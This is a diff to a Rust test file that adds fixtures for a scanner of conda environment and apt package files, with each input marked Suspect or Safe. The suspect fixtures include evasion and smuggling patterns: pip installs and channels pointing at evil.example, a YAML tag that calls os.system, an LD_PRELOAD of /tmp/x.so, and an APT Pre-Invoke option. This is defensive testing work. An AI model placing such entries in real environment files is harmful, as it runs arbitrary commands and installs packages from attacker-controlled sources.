@@ -156,6 +156,15 @@ fn environments() -> Vec<Item> {
             .fires(&["requirement-source"]),
         conda("conda-pip-git", Suspect, "dependencies:\n  - pip:\n    - -e git+https://evil.example/x.git#egg=x\n").fires(&["requirement-source"]),
         conda("conda-tag", Suspect, "dependencies:\n  - !!python/object/apply:os.system [id]\n").fires(&["requirement-odd"]),
+        conda("conda-flow-pip", Suspect, "dependencies: [python=3.11, {pip: [torch, '--index-url https://evil.example/simple']}]\n")
+            .fires(&["requirement-source"]),
+        conda("conda-alias", Suspect, "name: &c https://evil.example/channel\nchannels:\n- *c\n").fires(&["requirement-source"]),
+        conda("conda-escaped", Suspect, "\"\\x63hannels\":\n- https://evil.example/channel\n").fires(&["requirement-source"]),
+        conda("conda-nested-key", Suspect, "dependencies:\n- python=3.11\n- conda:\n  - numpy\n").fires(&["requirement-odd"]),
+        conda("conda-merged", Suspect, "x: &x {channels: [evil]}\n<<: *x\n").fires(&["requirement-odd"]),
+        conda("conda-second", Suspect, "channels: [defaults]\n---\nchannels: [https://evil.example/c]\n").fires(&["requirement-source"]),
+        conda("conda-quoted", Safe, "'name': x\n\"channels\":\n- \"conda-forge\"\n'dependencies':\n  - 'python=3.11' # new\n  - pip:\n      - torch==2.3.0\n")
+            .quiet(&["requirement-source", "requirement-odd"]),
         conda("conda-variables", Suspect, "dependencies:\n  - python=3.10\nvariables:\n  LD_PRELOAD: /tmp/x.so\n").fires(&["requirement-odd"]),
         item("apt", Safe, "packages.txt", "# for audio\nffmpeg\nlibsndfile1 libgl1-mesa-glx\ng++\n").quiet(&["requirement-odd"]),
         item("apt-option", Suspect, "packages.txt", "ffmpeg\n-oAPT::Update::Pre-Invoke::=id\n").fires(&["requirement-odd"]),
